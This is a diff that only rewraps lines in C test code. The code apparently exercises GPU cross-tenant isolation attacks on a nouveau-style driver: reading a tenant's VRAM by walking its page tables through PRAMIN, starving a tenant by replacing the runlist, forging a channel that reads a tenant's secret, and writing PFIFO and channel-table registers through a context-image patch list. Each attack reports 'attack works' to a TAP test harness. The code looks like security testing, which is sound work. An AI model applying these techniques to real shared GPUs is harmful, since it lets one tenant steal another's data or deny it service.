@@ -43,8 +43,9 @@ void attack_tenant_memory(struct machine *m)
 	inst = instance_of(g, victim.shared->chid);
 	found = bare_walk(g, inst, victim.shared->secret_va, &t, &addr, &left);
 	tap_result(found && t == BARE_VRAM && left >= sizeof(stolen),
-		   "attack works: PRAMIN follows a tenant's instance block and page tables", "channel %d, instance %llx, VRAM %llx",
-		   victim.shared->chid, (unsigned long long)inst, (unsigned long long)addr);
+		   "attack works: PRAMIN follows a tenant's instance block and page tables",
+		   "channel %d, instance %llx, VRAM %llx", victim.shared->chid,
+		   (unsigned long long)inst, (unsigned long long)addr);
 	if (found) {
 		bare_mem_read(g, t, addr, stolen, sizeof(stolen));
 		same = !memcmp(stolen, (void *)victim.shared->secret, sizeof(stolen));
@@ -121,7 +122,8 @@ void attack_tenant_runlist(struct machine *m)
 	stopped_at = victim.shared->rounds;
 	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
 	after = goes_on(&victim);
-	tap_result(normal && starved, "attack works: a runlist without a tenant's channels starves it",
+	tap_result(normal && starved,
+		   "attack works: a runlist without a tenant's channels starves it",
 		   "runlist %u of %u entries, stopped at round %llu", l.runlist, l.count,
 		   (unsigned long long)stopped_at);
 	tap_result(after, "with the old runlist the tenant goes on", NULL);
@@ -196,9 +198,10 @@ void attack_tenant_channel(struct machine *m)
 	submit_with(g, &l, FORGED_ID);
 	bare_copy(&c, SECRET_VA + addr % 4096, LOOT_VA, 2048, 0);
 	ran = bare_run(&c, RUN_MS);
-	tap_result(found && ran && !memcmp(loot, (void *)victim.shared->secret, 2048),
-		   "attack works: a forged channel joins the driver's runlist and reads a tenant's memory",
-		   "runlist %u, ran %d", cfg.runlist, ran);
+	tap_result(
+		found && ran && !memcmp(loot, (void *)victim.shared->secret, 2048),
+		"attack works: a forged channel joins the driver's runlist and reads a tenant's memory",
+		"runlist %u, ran %d", cfg.runlist, ran);
 	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
 	bare_chan_destroy(&c);
 	victim.shared->order = TENANT_WORK;
@@ -263,8 +266,8 @@ static void patch_register(struct machine *m, struct gpu *gpu, uint32_t reg, uin
 	ret = job_run(&c);
 	after = bare_read(g, reg);
 	bare_write(g, reg, before);
-	tap_result(added && !ret && before != value && after == value, what, "register %06x: %08x -> %08x, list found %d",
-		   reg, before, after, added);
+	tap_result(added && !ret && before != value && after == value, what,
+		   "register %06x: %08x -> %08x, list found %d", reg, before, after, added);
 	nouveau_object_del(&object);
 	chan_close(&c);
 }
@@ -275,9 +278,11 @@ void attack_patch_list(struct machine *m)
 
 	gpu_open(&gpu, NULL);
 	/* Neither register belongs to the graphics engine. patch_register() puts both back. */
-	patch_register(m, &gpu, PFIFO_ENG_TIMESLICE(15), 0x10005042,
-		       "attack works: the patch list of a context image writes a register of PFIFO");
-	patch_register(m, &gpu, PCCSR_INST(FORGED_ID), 0x00123456,
-		       "attack works: the patch list of a context image writes an instance pointer of the channel table");
+	patch_register(
+		m, &gpu, PFIFO_ENG_TIMESLICE(15), 0x10005042,
+		"attack works: the patch list of a context image writes a register of PFIFO");
+	patch_register(
+		m, &gpu, PCCSR_INST(FORGED_ID), 0x00123456,
+		"attack works: the patch list of a context image writes an instance pointer of the channel table");
 	gpu_close(&gpu);
 }
